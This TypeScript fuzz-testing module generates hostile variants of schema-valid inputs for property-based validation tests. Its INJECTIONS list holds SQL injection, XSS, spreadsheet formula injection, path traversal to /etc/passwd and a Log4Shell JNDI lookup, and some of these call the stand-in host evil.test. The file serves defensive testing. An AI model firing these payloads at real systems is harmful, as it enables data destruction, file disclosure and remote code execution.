import fc from "fast-check";
import type { z } from "zod";
import { validArb } from "./zod-arbitrary";

/**
 * Hostile variants of a valid value: a field missing, of the wrong type, huge, dressed in unicode tricks or
 * carrying an injection string; or the whole body replaced. Each draw says which mutation it is, for the summary.
 */
export const UNICODE_TRICKS = [
  "１２３４５６", // full-width digits
  "٠١٢٣٤٥", // Arabic-Indic digits
  "\u200fRTL\u200f", // right-to-left mark
  "abc\u202etxt.exe", // right-to-left override
  "a\u0000b", // NUL
  "\u200b\u200c\u200d\ufeff", // zero-width characters and BOM
  "\ud800", // a lone surrogate
  "e\u0301\u0301\u0301", // stacked combining marks
  "аdmin", // Cyrillic a
  "\u2028\u2029", // line and paragraph separators
  "\u00a0 \t\n", // non-breaking and other white space
  "🇹🇭💸",
];
export const INJECTIONS = [
  "' OR '1'='1' --",
  "1; DROP TABLE users; --",
  "\\'; SELECT pg_sleep(5); --",
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "=HYPERLINK(\"http://evil.test\",\"x\")",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "${jndi:ldap://evil.test/a}",
  "{{7*7}}",
  "%00",
  "__proto__",
];
const HUGE_NUMBERS: unknown[] = [1e308, -1e308, 2 ** 63, -(2 ** 63), Number.MAX_SAFE_INTEGER + 2, 1e21, -0, 0.1 + 0.2, -1, 0, "1e999", "NaN", "Infinity", "0x10", " 7 ", "9".repeat(400)];
const WRONG_TYPES: unknown[] = [null, true, false, 0, 1, -1, "", "x", [], [1, 2], {}, { a: 1 }, [[[[[]]]]], JSON.parse('{"__proto__":{"admin":true}}')];

export type Mutation = "valid" | "missing" | "wrong-type" | "huge-string" | "huge-number" | "unicode" | "injection" | "extra-field" | "whole-body";

export interface Hostile {
  mutation: Mutation;
  value: unknown;
}

type Path = (string | number)[];

function paths(v: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (v && typeof v === "object") {
    for (const [k, child] of Object.entries(v)) {
      const p = [...prefix, Array.isArray(v) ? Number(k) : k];
      out.push(p);
      if (p.length < 4) paths(child, p, out);
    }
  }
  return out;
}

function clone(v: unknown): unknown {
  return v === undefined ? undefined : JSON.parse(JSON.stringify(v, (_k, x: unknown) => (typeof x === "bigint" ? x.toString() : x)));
}

function setAt(root: unknown, path: Path, fn: (old: unknown) => unknown, remove = false): unknown {
  if (path.length === 0) return fn(root);
  const out = clone(root) as Record<string | number, unknown>;
  let at = out;
  for (const k of path.slice(0, -1)) at = at[k] as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  if (remove) {
    if (Array.isArray(at)) at.splice(Number(last), 1);
    else delete at[last];
  } else at[last] = fn(at[last]);
  return out;
}

const WHOLE_BODIES: unknown[] = [null, [], "body", 42, true, [{}], { "": "" }, JSON.parse('{"__proto__":{"role":"admin"},"constructor":{"prototype":{"x":1}}}')];

/** Hostile values for one schema; `sizes` are the lengths of the huge strings (a query string needs smaller ones). */
export function hostileArb(schema: z.ZodType, opts: { sizes: [number, ...number[]] }): fc.Arbitrary<Hostile> {
  const mutation = fc.constantFrom<Mutation>("valid", "missing", "wrong-type", "huge-string", "huge-number", "unicode", "unicode", "injection", "injection", "extra-field", "whole-body");
  return fc
    .record({
      base: validArb(schema),
      mutation,
      pick: fc.nat(),
      wrong: fc.constantFrom(...WRONG_TYPES),
      number: fc.constantFrom(...HUGE_NUMBERS),
      trick: fc.constantFrom(...UNICODE_TRICKS),
      injection: fc.constantFrom(...INJECTIONS),
      size: fc.constantFrom(...opts.sizes),
      place: fc.constantFrom("replace", "prefix", "suffix"),
      whole: fc.constantFrom(...WHOLE_BODIES),
    })
    .map((r): Hostile => {
      const base = clone(r.base) ?? {};
      const ps = paths(base);
      const path = ps.length > 0 ? (ps[r.pick % ps.length] as Path) : [];
      const wrap = (old: unknown, s: string) =>
        r.place === "replace" || typeof old !== "string" ? s : r.place === "prefix" ? s + old : old + s;
      switch (r.mutation) {
        case "valid":
          return { mutation: "valid", value: base };
        case "missing":
          return { mutation: "missing", value: path.length ? setAt(base, path, () => undefined, true) : {} };
        case "wrong-type":
          return { mutation: "wrong-type", value: setAt(base, path, () => r.wrong) };
        case "huge-string":
          return { mutation: "huge-string", value: setAt(base, path, () => "９".repeat(r.size)) };
        case "huge-number":
          return { mutation: "huge-number", value: setAt(base, path, () => r.number) };
        case "unicode":
          return { mutation: "unicode", value: setAt(base, path, (old) => wrap(old, r.trick)) };
        case "injection":
          return { mutation: "injection", value: setAt(base, path, (old) => wrap(old, r.injection)) };
        case "extra-field":
          return { mutation: "extra-field", value: { ...(base as object), [r.injection]: r.trick, isAdmin: true, id: 1 } };
        case "whole-body":
          return { mutation: "whole-body", value: r.whole };
      }
    });
}

/** A query string from a (possibly mutated) value: what a form or a hand-typed URL would send. */
export function toQuery(v: unknown): string {
  const q = new URLSearchParams();
  if (v && typeof v === "object" && !Array.isArray(v)) {
    for (const [k, x] of Object.entries(v)) {
      if (x === undefined) continue;
      if (Array.isArray(x)) for (const e of x) q.append(k, typeof e === "object" ? JSON.stringify(e) : String(e));
      else q.append(k, typeof x === "object" && x !== null ? JSON.stringify(x) : String(x));
    }
  } else if (v !== undefined) q.append(String(v), String(v));
  return q.toString();
}
